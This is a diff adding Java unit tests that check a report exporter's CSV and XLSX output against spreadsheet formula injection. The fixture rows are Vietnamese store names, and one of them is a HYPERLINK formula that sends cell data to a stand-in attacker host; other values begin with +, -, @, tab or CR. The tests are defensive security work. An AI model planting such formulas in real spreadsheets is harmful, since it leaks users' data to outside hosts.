@@ -89,6 +89,56 @@ class ReportExportsTest {
     }
   }
 
+  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")";
+
+  static final ReportTable INJECTED = new ReportTable("Doanh số theo cửa hàng", List.of("@Kỳ"),
+      List.of("Cửa hàng", "Số đơn", "Hoàn tiền (VND)", "Tỷ lệ"),
+      List.of(
+          row(HYPERLINK, 1, -650_000L, -0.5),
+          row("+84 912 345 678", 2, 0L, 1.0),
+          row("-Xưởng", 3, 0L, 0.0),
+          row("@SUM(1+1)", 4, 0L, 0.0),
+          row("\tTab", 5, 0L, 0.0),
+          row("\rCR", 6, 0L, 0.0),
+          row("Xưởng = đẹp", 7, 0L, 0.0)));
+
+  @Test
+  void csvTextThatLooksLikeAFormulaGetsAnApostropheAndNumbersStayNumbers() throws IOException {
+    String text = new String(ReportExports.csv(INJECTED), StandardCharsets.UTF_8).substring(1);
+    List<CSVRecord> records;
+    try (CSVParser parser = CSVParser.parse(new StringReader(text), CSVFormat.RFC4180)) {
+      records = parser.getRecords();
+    }
+    assertThat(records.get(1).get(0)).isEqualTo("'@Kỳ");
+    assertThat(records.subList(4, records.size())).extracting(r -> List.of(r.values())).containsExactly(
+        List.of("'" + HYPERLINK, "1", "-650000", "-0.5"),
+        List.of("'+84 912 345 678", "2", "0", "1.0"),
+        List.of("'-Xưởng", "3", "0", "0.0"),
+        List.of("'@SUM(1+1)", "4", "0", "0.0"),
+        List.of("'\tTab", "5", "0", "0.0"),
+        List.of("'\rCR", "6", "0", "0.0"),
+        List.of("Xưởng = đẹp", "7", "0", "0.0"));
+  }
+
+  @Test
+  void xlsxWritesAFormulaLikeNameAsQuotedTextAndNegativeNumbersAsNumbers() throws IOException {
+    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(ReportExports.xlsx(INJECTED)))) {
+      Sheet sheet = workbook.getSheetAt(0);
+      Cell name = sheet.getRow(4).getCell(0);
+      assertThat(name.getCellType()).isEqualTo(CellType.STRING);
+      assertThat(name.getStringCellValue()).isEqualTo(HYPERLINK);
+      assertThat(name.getCellStyle().getQuotePrefixed()).isTrue();
+      assertThat(sheet.getRow(4).getCell(2).getCellType()).isEqualTo(CellType.NUMERIC);
+      assertThat(sheet.getRow(4).getCell(2).getNumericCellValue()).isEqualTo(-650_000.0);
+      assertThat(sheet.getRow(10).getCell(0).getCellStyle().getQuotePrefixed()).isFalse();
+      for (Row row : sheet) {
+        for (Cell cell : row) {
+          assertThat(cell.getCellType()).as("no formula anywhere").isNotEqualTo(CellType.FORMULA);
+        }
+      }
+    }
+  }
+
   @Test
   void anEmptyReportStillSaysWhatItCovers() throws IOException {
     ReportTable empty = new ReportTable("Doanh số", List.of("Kỳ: 01/01/2026 – 31/01/2026"),
